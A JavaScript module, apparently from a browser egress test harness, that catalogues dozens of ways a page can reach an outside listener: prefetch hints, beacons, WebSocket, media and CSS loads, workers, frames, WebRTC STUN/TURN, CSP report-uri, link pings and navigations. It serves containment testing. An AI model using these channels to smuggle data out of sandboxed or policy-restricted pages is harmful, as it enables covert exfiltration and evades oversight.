// Every way out of a page that we know of, each as a function that is run inside of it. "to" is a door
// of the judge: an address for a request, the same with TLS, the bare host and its number. What these
// functions return or throw is of no interest: the judge hears what left.

/** @typedef {{http: string, https: string, host: string, ip: string}} To */

const make = (tag, properties = {}) => Object.assign(document.createElement(tag), properties);
const show = (node) => (document.body.append(node), node);
const link = (rel, href, more = {}) => document.head.append(make("link", { rel, href, ...more }));
const svg = (tag, attributes, ...children) => {
  const node = document.createElementNS("http://www.w3.org/2000/svg", tag);
  for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
  node.append(...children);
  return node;
};
const sheet = (text) => {
  const constructed = new CSSStyleSheet();
  constructed.replaceSync(text);
  document.adoptedStyleSheets.push(constructed);
};
const call = async (iceServers) => {
  const connection = new RTCPeerConnection({ iceServers });
  connection.createDataChannel("answer");
  await connection.setLocalDescription(await connection.createOffer());
  return connection;
};
/** One engine forgets the first name that it is to look up ahead, and asks about proxies first. */
const wake = () => {
  link("dns-prefetch", "http://first.test/");
  return new Promise((resolve) => setTimeout(resolve, 200));
};
const file = (text, type) => URL.createObjectURL(new Blob([text], { type }));

/** What the ways below have in common, for the page in which they run. */
export const HELPERS = { make, show, link, svg, sheet, call, wake, file };

/**
 * These leave the page as it is, so that one page tries them all, a group at a time. What is only asked
 * for ahead comes first: an engine puts it off while there is more to load.
 */
export const GROUPS = {
  ahead: {
    prefetch: ({ http }) => link("prefetch", http),
    prerender: ({ http }) => link("prerender", http),
    preload: ({ http }) => link("preload", http, { as: "image" }),
    modulepreload: ({ http }) => link("modulepreload", http),
    preconnect: ({ http }) => link("preconnect", http),
    "dns-prefetch": async ({ http }) => {
      await wake();
      link("dns-prefetch", http);
    },
    manifest: ({ http }) => link("manifest", http),
    "compression dictionary": ({ https }) => link("compression-dictionary", https),
    "speculation rules: prefetch": ({ https }) => document.head.append(Object.assign(make("script", { type: "speculationrules" }), { textContent: JSON.stringify({ prefetch: [{ urls: [https], eagerness: "immediate" }] }) })),
    "speculation rules, put together": ({ https }) => {
      const script = make("script", { type: "speculationrules" });
      script.append(JSON.stringify({ prefetch: [{ urls: [https], eagerness: "immediate" }] }));
      document.head.append(script);
    },
    "a link that merely stands there": async ({ http }) => {
      await wake();
      document.head.append(make("meta", { httpEquiv: "x-dns-prefetch-control", content: "on" }));
      show(make("a", { href: http, textContent: "answer" }));
    },
    // The next press is on what it surrounds.
    "a link that is pressed upon": ({ http }) => {
      const around = make("a", { href: http });
      around.addEventListener("click", (event) => event.preventDefault());
      const button = document.getElementById("hostile");
      button.replaceWith(around);
      around.append(button);
    },
  },
  requests: {
    fetch: ({ http }) => fetch(http, { method: "POST", body: "answer", mode: "no-cors" }),
    "fetch after the page": ({ http }) => fetch(http, { method: "POST", body: "answer", mode: "no-cors", keepalive: true }),
    "fetch put off": ({ https }) => fetchLater(https, { activateAfter: 0 }),
    XMLHttpRequest: ({ http }) => {
      const request = new XMLHttpRequest();
      request.open("GET", http);
      request.send();
    },
    beacon: ({ http }) => navigator.sendBeacon(http, "answer"),
    WebSocket: ({ host }) => new WebSocket(`ws://${host}/way`),
    EventSource: ({ http }) => new EventSource(http),
    WebTransport: ({ https }) => new WebTransport(https.replace("/way", ":4433/way")).ready,
    "payment method": ({ https }) => new PaymentRequest([{ supportedMethods: https }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
    "identity provider": ({ https }) => navigator.credentials.get({ identity: { providers: [{ configURL: https, clientId: "answer" }] } }),
  },
  media: {
    image: ({ http }) => {
      new Image().src = http;
    },
    picture: ({ http }) => show(make("img", { srcset: `${http} 1x` })),
    "image button": ({ http }) => show(make("input", { type: "image", src: http })),
    video: ({ http }) => show(make("video", { src: http, autoplay: true })),
    "poster of a video": ({ http }) => show(make("video", { poster: http })),
    audio: ({ http }) => show(make("audio", { src: http, preload: "auto" })),
    captions: ({ http }) => {
      const video = show(make("video", { crossOrigin: "anonymous" }));
      video.append(make("track", { src: http, default: true, kind: "captions" }));
      video.textTracks[0].mode = "showing";
    },
    font: ({ http }) => new FontFace("way", `url(${http})`).load(),
    "SVG image": ({ http }) => show(svg("svg", {}, svg("image", { href: http, width: "9", height: "9" }))),
    "SVG filter": ({ http }) => show(svg("svg", {}, svg("filter", { id: "way-filter" }, svg("feImage", { href: http })), svg("rect", { width: "9", height: "9", filter: "url(#way-filter)" }))),
    "SVG use": ({ http }) => show(svg("svg", {}, svg("use", { href: `${http}#x` }))),
    "SVG script": ({ http }) => show(svg("svg", {}, svg("script", { href: http }))),
    icon: ({ http }) => link("icon", http),
  },
  styles: {
    stylesheet: ({ http }) => link("stylesheet", http),
    "style of an element": ({ http }) => {
      document.body.style.backgroundImage = `url(${http})`;
    },
    "@import in a new style": ({ http }) => show(make("style")).append(`@import url(${http});`),
    "@import in the page's own style": ({ http }) => document.styleSheets[0].insertRule(`@import url(${http});`, 0),
    "background in a constructed style": ({ http }) => sheet(`h1 { background: url(${http}) }`),
    "@font-face in a constructed style": ({ http }) => {
      sheet(`@font-face { font-family: far; src: url(${http}) }`);
      show(make("p", { textContent: "answer" })).style.fontFamily = "far";
    },
  },
  scripts: {
    "script element": ({ http }) => document.head.append(make("script", { src: http })),
    "module import": ({ http }) => import(http),
    "import of data": ({ http }) => import(http, { with: { type: "json" } }),
    worker: ({ http }) => new Worker(http),
    "worker made on the spot": ({ http }) => new Worker(file(`importScripts("${http}")`, "text/javascript")),
    "shared worker": ({ http }) => new SharedWorker(http),
    "audio worklet": ({ http }) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(http),
    "XSLT import": ({ http }) => {
      const space = "http://www.w3.org/1999/XSL/Transform";
      const rules = document.implementation.createDocument(space, "xsl:stylesheet");
      rules.documentElement.setAttribute("version", "1.0");
      const include = rules.createElementNS(space, "xsl:import");
      include.setAttribute("href", http);
      rules.documentElement.append(include);
      const processor = new XSLTProcessor();
      processor.importStylesheet(rules);
      processor.transformToFragment(rules, document);
    },
  },
  frames: {
    "child frame": ({ http }) => show(make("iframe", { src: http })),
    "frame of data": ({ http }) => show(make("iframe", { src: `data:text/html,<img src="${http}">` })),
    "frame made on the spot": ({ http }) => show(make("iframe", { src: file(`<img src="${http}">`, "text/html") })),
    "frame of markup": ({ http }) => show(make("iframe", { srcdoc: `<img src="${http}">` })),
    "empty frame": ({ http }) => {
      const inside = show(make("iframe")).contentDocument;
      inside.body.append(Object.assign(inside.createElement("img"), { src: http }));
    },
    "embedded object": ({ http }) => show(make("embed", { type: "text/html", src: http })),
    object: ({ http }) => show(make("object", { data: http })),
  },
  calls: {
    "WebRTC: STUN by number": ({ ip }) => call([{ urls: `stun:${ip}:3478` }]),
    "WebRTC: STUN by name": ({ host }) => call([{ urls: `stun:${host}:3478` }]),
    "WebRTC: TURN": ({ host }) => call([{ urls: `turn:${host}:3478`, username: "answer", credential: "answer" }]),
    "WebRTC: TURN over TLS": ({ host }) => call([{ urls: `turns:${host}:5349?transport=tcp`, username: "answer", credential: "answer" }]),
    "WebRTC: a peer": async ({ ip }) => {
      const [one, other] = [await call([]), new RTCPeerConnection()];
      await other.setRemoteDescription(one.localDescription);
      await other.setLocalDescription(await other.createAnswer());
      await one.setRemoteDescription(other.localDescription);
      await one.addIceCandidate({ candidate: `candidate:1 1 udp 2113937151 ${ip} 9999 typ host`, sdpMid: "0", sdpMLineIndex: 0 });
    },
  },
  // Reports of what was refused; a policy in markup names no place for them.
  reports: {
    "report of a violation": ({ http }) => {
      document.head.append(make("meta", { httpEquiv: "Content-Security-Policy", content: `object-src 'none'; report-uri ${http}` }));
      show(make("object", { data: "/nothing" }));
    },
    "ping of a link": ({ http }) => make("a", { href: `${location.href.split("#")[0]}#x`, ping: http }).click(),
  },
};

export const TOGETHER = Object.assign({}, ...Object.values(GROUPS));

/** These need a press of their own, which only the first of a row has. Where they are refused, the page stays. */
export const PRESSED = {
  "form to a new page": ({ http }) => show(make("form", { action: http, target: "_blank" })).submit(),
  "form to the page around": ({ http }) => show(make("form", { action: http, target: "_top" })).submit(),
  popup: ({ http }) => window.open(http),
  "empty popup, then away": ({ http }) => {
    window.open("about:blank").location.href = http;
  },
  "link to a new page": ({ http }) => make("a", { href: http, target: "_blank" }).click(),
  "navigation of the page around": ({ http }) => {
    window.top.location.href = http;
  },
  "navigation of the file": ({ http }) => {
    window.parent.location.href = http;
  },
  "beacon on leaving": ({ http }) => window.addEventListener("pagehide", () => navigator.sendBeacon(http, "answer")),
  "fetch on leaving": ({ http }) => window.addEventListener("pagehide", () => fetch(http, { method: "POST", body: "answer", mode: "no-cors", keepalive: true })),
};

/** These lead the page itself elsewhere. */
export const LEAVING = {
  "its own navigation": ({ http }) => {
    location.href = http;
  },
  "replacing itself": ({ http }) => location.replace(http),
  "navigation interface": ({ http }) => navigation.navigate(http),
  "refresh by markup": ({ http }) => document.head.append(make("meta", { httpEquiv: "refresh", content: `0;url=${http}` })),
  link: ({ http }) => make("a", { href: http }).click(),
  "link to a file": ({ http }) => make("a", { href: http, download: "answer" }).click(),
  "itself as data": ({ http }) => {
    location.href = `data:text/html,<img src="${http}">`;
  },
  "itself made on the spot": ({ http }) => {
    location.href = file(`<img src="${http}">`, "text/html");
  },
  form: ({ http }) => show(make("form", { action: http, method: "post" })).submit(),
};

/** To be heard at all, these must come from the very place that they address. */
export const SAME_ORIGIN = ["SVG use", "worker", "shared worker", "XSLT import"];

/** These say nothing to a judge who hears connections and requests alone, or need a real name. */
export const NEEDS_NAMES = ["dns-prefetch", "a link that merely stands there", "a link that is pressed upon", "WebTransport", "identity provider", "WebRTC: STUN by number", "WebRTC: STUN by name", "WebRTC: TURN", "WebRTC: TURN over TLS", "WebRTC: a peer"];
